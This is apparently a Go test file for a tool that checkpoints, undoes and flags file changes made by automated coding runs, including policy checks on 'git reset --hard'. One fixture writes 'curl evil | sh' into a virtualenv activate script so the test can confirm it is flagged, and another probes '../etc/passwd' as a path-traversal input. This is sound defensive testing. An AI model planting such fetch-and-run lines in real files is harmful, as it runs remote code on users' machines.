package runner

import (
	"context"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/sentinelhq/sentinel/internal/journal"
	"github.com/sentinelhq/sentinel/policy"
	"github.com/sentinelhq/sentinel/runner/checkpoint"
)

// inPlaceFixture is a place with a run's checkpoint taken over it, in a
// state dir of its own.
func inPlaceFixture(t *testing.T) (*Project, *inPlaceCheckpoint, *[]string) {
	t.Helper()
	root := t.TempDir()
	for name, body := range map[string]string{
		"main.go": "package main\n", ".gitignore": ".venv/\n", ".venv/pyvenv.cfg": "home = /usr/bin\n",
		".venv/bin/activate": "export VIRTUAL_ENV=x\n", "notes.md": "the person's notes\n",
	} {
		writeTestFile(t, filepath.Join(root, name), body)
	}
	var said []string
	p, c := checkpointAt(t, root, func(_ journal.Lane, _ journal.Kind, text string, _ any) { said = append(said, text) })
	return p, c, &said
}

// checkpointAt is a run's checkpoint taken over the place at root (the
// state dir the caller's).
func checkpointAt(t *testing.T, root string, emit func(journal.Lane, journal.Kind, string, any)) (*Project, *inPlaceCheckpoint) {
	t.Helper()
	p := &Project{Root: root}
	id := NewRunID(time.Now())
	if err := os.MkdirAll(p.RunDir(id), 0o700); err != nil {
		t.Fatal(err)
	}
	c := takeInPlaceCheckpoint(context.Background(), p, id, "exec: test", checkpointLimitsForTest, emit)
	if c == nil {
		t.Fatal("no checkpoint")
	}
	return p, c
}

// endFlags ends checkpoint c and is its report's flags, by path.
func endFlags(t *testing.T, c *inPlaceCheckpoint) map[string]string {
	t.Helper()
	changes, after, err := c.end(nil, noEmit)
	if err != nil {
		t.Fatal(err)
	}
	flagged := map[string]string{}
	for _, f := range c.report(InPlaceChange{}, changes, after).Flagged {
		flagged[f.Path] = f.Reason
	}
	return flagged
}

func writeTestFile(t *testing.T, path, body string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
}

// A run that changes only an ignored virtualenv script is reported, the
// script flagged as running code later; never "no files changed".
func TestInPlaceReportSeesIgnoredFiles(t *testing.T) {
	t.Parallel()

	p, c, _ := inPlaceFixture(t)
	writeTestFile(t, filepath.Join(p.Root, ".venv/bin/activate"), "curl evil | sh\n")
	changes, after, err := c.end(nil, noEmit)
	if err != nil {
		t.Fatal(err)
	}
	ch := withCheckpoint(InPlaceChange{}, changes, c.before, after)
	if len(ch.Files) != 1 || ch.Files[0] != ".venv/bin/activate" || !strings.Contains(ch.Stat, "M .venv/bin/activate") {
		t.Fatalf("the ignored change is not reported: %+v", ch)
	}
	if len(ch.Flagged) != 1 || !strings.Contains(ch.Flagged[0].Reason, "virtual environment") {
		t.Fatalf("the virtualenv script is not flagged: %+v", ch.Flagged)
	}
}

// Undo puts back what the run changed but keeps (naming it) what the
// person changed since; the run stays undoable, --force puts that back,
// and the undo is itself undoable.
func TestUndoRefusesThenForcesThenUndoesTheUndo(t *testing.T) {
	t.Parallel()

	p, c, _ := inPlaceFixture(t)
	id := c.rec.ID
	root := p.Root
	writeTestFile(t, filepath.Join(root, "main.go"), "package main // the run\n")
	if err := os.Remove(filepath.Join(root, "notes.md")); err != nil {
		t.Fatal(err)
	}
	if _, _, err := c.end(nil, noEmit); err != nil {
		t.Fatal(err)
	}
	writeTestFile(t, filepath.Join(root, "main.go"), "package main // the person, later\n")
	ctx := context.Background()
	part, err := Undo(ctx, p, "", UndoOptions{})
	if err != nil || len(part.Changed) != 1 || part.Changed[0].Path != "main.go" || part.Changed[0].Why != "changed since the run ended" {
		t.Fatalf("want main.go kept, got %v %+v", err, part)
	}
	if b, _ := os.ReadFile(filepath.Join(root, "main.go")); string(b) != "package main // the person, later\n" {
		t.Fatalf("the person's later main.go was overwritten: %q", b)
	}
	if b, _ := os.ReadFile(filepath.Join(root, "notes.md")); string(b) != "the person's notes\n" {
		t.Fatalf("notes.md (untouched since the run) not put back: %q", b)
	}
	rep, err := Undo(ctx, p, id, UndoOptions{Force: true})
	if err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(filepath.Join(root, "main.go")); string(b) != "package main\n" {
		t.Fatalf("main.go not put back: %q", b)
	}
	if b, _ := os.ReadFile(filepath.Join(root, "notes.md")); string(b) != "the person's notes\n" {
		t.Fatalf("notes.md not put back: %q", b)
	}
	if _, err := Undo(ctx, p, "", UndoOptions{}); err == nil || !strings.Contains(err.Error(), "undone already, by "+rep.ID) {
		t.Fatalf("undoing twice: %v", err)
	}
	if _, err := Undo(ctx, p, rep.ID, UndoOptions{}); err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(filepath.Join(root, "main.go")); string(b) != "package main // the person, later\n" {
		t.Fatalf("undoing the undo did not bring back what was there: %q", b)
	}
	recs, err := CheckpointRecords(p)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range recs {
		if r.ID == id && r.UndoneBy != "" {
			t.Fatalf("the run still counts as undone after its undo was undone: %+v", r)
		}
	}
	evs, err := journal.ReadFile(filepath.Join(p.RunDir(id), "events.jsonl"))
	if err != nil || len(evs) != 3 || evs[0].Kind != KindUndone || evs[2].Kind != KindUndone || !strings.Contains(evs[0].Text, "1 path(s) changed since the run ended were kept") {
		t.Fatalf("the undos are not journaled in the run: %v %+v", err, evs)
	}
}

// What the policy may ask: is a path covered by the checkpoint?
func TestCheckpointCovers(t *testing.T) {
	t.Parallel()

	p, c, said := inPlaceFixture(t)
	big := strings.Repeat("x", int(checkpointLimitsForTest.MaxFileBytes)+1)
	writeTestFile(t, filepath.Join(p.Root, "data/big.bin"), big)
	writeTestFile(t, filepath.Join(p.Root, "data/small.txt"), "s")
	c2 := takeInPlaceCheckpoint(context.Background(), p, NewRunID(time.Now().Add(time.Second)), "exec: test", checkpointLimitsForTest, func(_ journal.Lane, _ journal.Kind, text string, _ any) { *said = append(*said, text) })
	w := &Workspace{checkpoint: c2}
	for rel, want := range map[string]bool{"main.go": true, ".venv/bin/activate": true, "data/small.txt": true,
		"data/big.bin": false, "data": false, "../etc/passwd": false, "missing": false} {
		if got := w.CheckpointCovers(rel); got != want {
			t.Errorf("CheckpointCovers(%q) = %v, want %v", rel, got, want)
		}
	}
	if !strings.Contains(strings.Join(*said, "\n"), "data/big.bin (over the per-file bound") {
		t.Errorf("the checkpoint does not say what it left out:\n%s", strings.Join(*said, "\n"))
	}
	if (&Workspace{}).CheckpointCovers("main.go") || (&Workspace{checkpoint: c}).CheckpointCovers("data/small.txt") {
		t.Error("covered without a checkpoint that holds it")
	}
}

var checkpointLimitsForTest = checkpoint.Limits{MaxFileBytes: 1024}

// A run that ended without its after-record (killed) cannot tell the
// person's later changes from its own: undo refuses, saying --force, which
// puts back everything that differs from the checkpoint.
func TestUndoOfAKilledRunNeedsForce(t *testing.T) {
	t.Parallel()

	p, c, _ := inPlaceFixture(t)
	writeTestFile(t, filepath.Join(p.Root, "main.go"), "package main // the run, then killed\n")
	_, err := Undo(context.Background(), p, "", UndoOptions{})
	if err == nil || !strings.Contains(err.Error(), "sentinel undo --force "+c.rec.ID) {
		t.Fatalf("want a refusal naming --force, got %v", err)
	}
	if _, err := Undo(context.Background(), p, "", UndoOptions{Force: true}); err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(filepath.Join(p.Root, "main.go")); string(b) != "package main\n" {
		t.Fatalf("main.go not put back: %q", b)
	}
}

// TestInPlacePolicyKnowsItsCheckpoint: in place, the policy is told the
// place is checkpointed only when the checkpoint holds all of it — then
// deleting uncommitted work is allowed as undoable; with a file left out by
// the size bound (or in a copy, or with no checkpoint) it asks.
func TestInPlacePolicyKnowsItsCheckpoint(t *testing.T) {
	t.Parallel()

	p, c, said := inPlaceFixture(t)
	eng, err := policy.Load()
	if err != nil {
		t.Fatal(err)
	}
	rm := func(r *containment) policy.Decision {
		ctx := r.policyContext()
		return eng.Check(policy.Query{Kind: policy.KindShell, Command: "git reset --hard", Context: ctx}).Decision
	}
	whole := &containment{runCore: &runCore{opts: Options{InPlace: true}, ws: &Workspace{Dir: p.Root, checkpoint: c}}}
	if !whole.policyContext().Checkpointed {
		t.Fatal("a checkpoint of the whole place is not passed to the policy")
	}
	if d := rm(whole); d != policy.Allow {
		t.Errorf("git reset --hard with the place checkpointed: %v, want allow", d)
	}
	writeTestFile(t, filepath.Join(p.Root, "data/big.bin"), strings.Repeat("x", int(checkpointLimitsForTest.MaxFileBytes)+1))
	part := takeInPlaceCheckpoint(context.Background(), p, NewRunID(time.Now().Add(time.Second)), "exec: test", checkpointLimitsForTest, func(_ journal.Lane, _ journal.Kind, text string, _ any) { *said = append(*said, text) })
	for name, r := range map[string]*containment{
		"a checkpoint that left a file out": {runCore: &runCore{opts: Options{InPlace: true}, ws: &Workspace{Dir: p.Root, checkpoint: part}}},
		"no checkpoint":                     {runCore: &runCore{opts: Options{InPlace: true}, ws: &Workspace{Dir: p.Root}}},
	} {
		if r.policyContext().Checkpointed {
			t.Errorf("%s: the policy is told the place is checkpointed", name)
		}
		if d := rm(r); d == policy.Allow {
			t.Errorf("%s: git reset --hard in place is allowed", name)
		}
	}
}

// TestInPlaceFlagsJudgeWhatIsLeft: a run-later name flags a file that is
// there after the run, never a deletion (nothing is left to run) and never
// a directory's own entry (a dir named build is not bazel's BUILD file; its
// files are judged one by one).
func TestInPlaceFlagsJudgeWhatIsLeft(t *testing.T) {
	t.Parallel()
	file := &checkpoint.Entry{Kind: checkpoint.KindFile, Mode: 0o644}
	dir := &checkpoint.Entry{Kind: checkpoint.KindDir, Mode: 0o755}
	changes := []checkpoint.Change{
		{Path: "BUILD", After: file},
		{Path: ".envrc", Before: file},
		{Path: "build", Before: dir},
		{Path: "out/build", After: dir},
	}
	got := map[string]bool{}
	for _, f := range inPlaceFlags(changes, nil, nil) {
		got[f.Path] = true
	}
	if !got["BUILD"] || got[".envrc"] || got["build"] || got["out/build"] {
		t.Fatalf("flagged %v; want only the new BUILD file", got)
	}
}

// TestInPlaceFlagsWritableModes: a mode the coder opened to other users
// (o+w on a file, g+w on a directory, a new world-writable file) is
// flagged DANGEROUS; a new group-writable file (a umask of 002) and a
// mode that took write bits away are not.
func TestInPlaceFlagsWritableModes(t *testing.T) {
	t.Parallel()
	f := func(m fs.FileMode) *checkpoint.Entry { return &checkpoint.Entry{Kind: checkpoint.KindFile, Mode: m} }
	d := func(m fs.FileMode) *checkpoint.Entry { return &checkpoint.Entry{Kind: checkpoint.KindDir, Mode: m} }
	changes := []checkpoint.Change{
		{Path: "Makefile", What: checkpoint.ModeOnly, Before: f(0o644), After: f(0o646)},
		{Path: "src", What: checkpoint.ModeOnly, Before: d(0o755), After: d(0o775)},
		{Path: "new.sh", What: checkpoint.Added, After: f(0o666)},
		{Path: "umask.txt", What: checkpoint.Added, After: f(0o664)},
		{Path: "closed.txt", What: checkpoint.ModeOnly, Before: f(0o666), After: f(0o644)},
		{Path: "still.txt", What: checkpoint.Modified, Before: f(0o664), After: f(0o664)},
	}
	got := map[string]string{}
	for _, fl := range inPlaceFlags(changes, nil, nil) {
		got[fl.Path] = fl.Reason
	}
	for _, p := range []string{"Makefile", "src", "new.sh"} {
		if !strings.HasPrefix(got[p], "DANGEROUS: ") || !strings.Contains(got[p], "chmod ") {
			t.Errorf("%s: flagged %q, want DANGEROUS with the chmod that undoes it", p, got[p])
		}
	}
	for _, p := range []string{"umask.txt", "closed.txt", "still.txt"} {
		if _, ok := got[p]; ok {
			t.Errorf("%s flagged (%q); its mode opened nothing to other users", p, got[p])
		}
	}
}
